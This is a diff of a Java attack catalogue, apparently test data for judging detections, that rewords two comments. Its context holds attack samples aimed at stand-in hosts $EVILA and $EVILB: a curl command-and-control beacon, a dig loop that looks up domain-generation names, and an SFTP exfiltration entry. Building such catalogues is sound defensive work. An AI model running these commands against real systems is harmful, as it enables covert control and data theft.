@@ -340,7 +340,7 @@ final class JudgingAttacks extends AttackCatalogue {
                             .listen(443, process.argv[1])' $EVILA
                         """));
         add("c2-curl-day", "curl", OPS, 900, beacon("https://$EVILB:443/updates", 42, 850, 25), tlsEnd(EVILB, 443));
-        // Looks for the name that is alive today among many that nobody has, then speaks to its address.
+        // Looks for the name that is alive today among many that do not exist, then connects to its address.
         add("c2-dig-dga", "dig", BACKUP, 60, """
                 ends=(com net info biz)
                 for day in $(seq 7); do
@@ -487,7 +487,7 @@ final class JudgingAttacks extends AttackCatalogue {
                         asyncore.loop()
                         END
                         """));
-        // Somebody outside who has a key opens the connection, so that the answer is what leaves.
+        // A host outside that has a key opens the connection, so that the answer is what leaves.
         add(
                 "exfil-sftp-pull-outside",
                 "sftp",
